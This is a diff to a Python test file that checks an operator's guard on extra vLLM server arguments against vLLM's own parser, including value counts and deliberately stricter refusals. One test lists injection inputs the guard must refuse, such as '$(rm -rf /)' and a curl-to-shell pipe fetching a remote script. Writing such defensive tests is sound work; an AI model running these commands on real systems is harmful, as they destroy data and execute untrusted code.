@@ -10,7 +10,9 @@ own virtualenv), through ``tests/harness/vllm_probe.py``:
 - every catalog architecture is in vLLM's model registry; every default parser is registered;
 - vLLM's engine configuration, built on CPU from the catalog's config.json, accepts the plan
   (which of these checks vLLM can run without a GPU is reported per case);
-- the extraArgs guard knows every spelling of the managed flags (the generated list is vLLM's).
+- the extraArgs guard knows every spelling of the managed flags (the generated list is vLLM's), reads
+  how many values each option takes as vLLM's parser does, and refuses nothing vLLM would take but
+  for the stricter choices it lists.
 
 Figures are printed (run with ``-s``): argv sets, configurations, checks that ran.
 """
@@ -25,7 +27,18 @@ from typing import Any
 import pytest
 
 from glm_operator.api import vllm_flags
-from glm_operator.api.vllm_args import MANAGED_DESTS, managed_flag
+from glm_operator.api.vllm_args import (
+    MANAGED_DESTS,
+    VALUES_ANY,
+    VALUES_EXITS,
+    VALUES_ONE_OR_MORE,
+    VALUES_OPTIONAL,
+    VALUES_SWITCH,
+    check_extra_arg,
+    first_unknown_flag,
+    managed_flag,
+    structure_error,
+)
 from glm_operator.catalog.models import load_models, resolve_model
 from glm_operator.catalog.vllm import VLLM_VERSION, architecture_table
 from glm_operator.commands.vllm_flags import FLAGS_MODULE, probe, render_flags_module, vllm_python
@@ -236,3 +249,90 @@ def test_guard_refuses_the_known_attacks_and_they_are_real_vllm_spellings(python
         assert managed_flag(attack) is not None, attack
         # vLLM takes each of them (or, for --config, reads a file): they are not typos the parser would stop
         assert answer["ok"] or attack == "--config", (attack, argv, json.dumps(answer))
+
+
+def _guard_refuses(argv: list[str]) -> bool:
+    """Whether the extraArgs rules that read the list as vLLM does refuse ``argv`` (default image)."""
+    return structure_error(argv) is not None or first_unknown_flag(argv) is not None
+
+
+def _sample(action: dict[str, Any]) -> str:
+    if action["json"]:
+        return "{}"
+    return {"str": "x", "_optional_type": "x"}.get(str(action["type"]), _value_for(action))
+
+
+def test_the_option_table_reads_every_option_as_vllms_parser_does(
+    python: str, options: dict[str, Any]
+) -> None:
+    """Per option of vllm serve (managed and exiting ones aside), as many values as the table says
+    are taken (the guard accepts, vLLM parses), and one too few or too many are not (both refuse).
+    A sample value vLLM's own type refuses (a path that must exist, a format) says nothing about
+    the count: such an option is checked with the counts that fail anyway."""
+    checks: list[tuple[list[str], bool]] = []  # (argv, the table says vLLM takes it)
+    for action in options["actions"]:
+        if action["dest"] in MANAGED_DESTS or not action["option_strings"]:
+            continue
+        code = vllm_flags.OPTION_VALUES[action["option_strings"][0]]
+        if code == VALUES_EXITS:
+            continue
+        option, value = action["option_strings"][0], _sample(action)
+        checks.append(
+            ([option, "--enable-log-requests"], code in (VALUES_SWITCH, VALUES_OPTIONAL, VALUES_ANY))
+        )
+        checks.append(([option, value], code != VALUES_SWITCH))
+        checks.append(([option, value, value], code in (VALUES_ONE_OR_MORE, VALUES_ANY)))
+    answers = probe({"op": "parse", "argvs": [["m", *argv] for argv, _ in checks]}, python)
+    wrong = []
+    for (argv, takes), answer in zip(checks, answers, strict=True):
+        if _guard_refuses(argv) == takes:
+            wrong.append(f"the guard {'refuses' if takes else 'accepts'} {argv}")
+        if not takes and answer["ok"]:
+            wrong.append(f"vLLM takes {argv}, which the table says it does not")
+    type_refused = sum(1 for (_, takes), a in zip(checks, answers, strict=True) if takes and not a["ok"])
+    print(
+        f"\noption table: {len(checks)} argvs of {len(options['actions'])} options; vLLM's types refused "
+        f"{type_refused} sample values"
+    )
+    assert not wrong, wrong[:20]
+
+
+#: What the rules refuse although vLLM's parser takes it, on purpose.
+STRICTER_THAN_VLLM = {
+    "--enable-prefix": "an abbreviation: unique today, ambiguous after another release adds a flag",
+    "--": "the end of options: every entry after it, the operator's multi-node flags too, is positional",
+}
+
+
+def test_what_the_rules_refuse_vllm_refuses_too_but_the_stricter_choices(python: str) -> None:
+    lists = [
+        ["$(rm -rf /)"],
+        ["; curl https://example.com/x.sh | sh"],
+        ["`id`"],
+        ["--seed"],
+        ["--seed", "1", "2"],
+        ["--enable-prefix-caching", "yes"],
+        ["--enable-prefix-caching=true"],
+        ["--seed=1", "2"],
+        ["--seed.x=1"],
+        ["--no-such-flag"],
+        ["--lora-modules"],
+        ["--seed", "-0.5"],
+        *([key] for key in STRICTER_THAN_VLLM),
+    ]
+    answers = probe({"op": "parse", "argvs": [["m", *argv] for argv in lists]}, python)
+    for argv, answer in zip(lists, answers, strict=True):
+        assert _guard_refuses(argv) or any(check_refuses(argv)), argv
+        assert answer["ok"] == (argv[0] in STRICTER_THAN_VLLM), (argv, answer)
+
+
+def check_refuses(argv: list[str]) -> list[bool]:
+    """The per-entry rules' verdicts (flag syntax) on ``argv``."""
+    out = []
+    for arg in argv:
+        try:
+            check_extra_arg(arg)
+            out.append(False)
+        except ValueError:
+            out.append(True)
+    return out
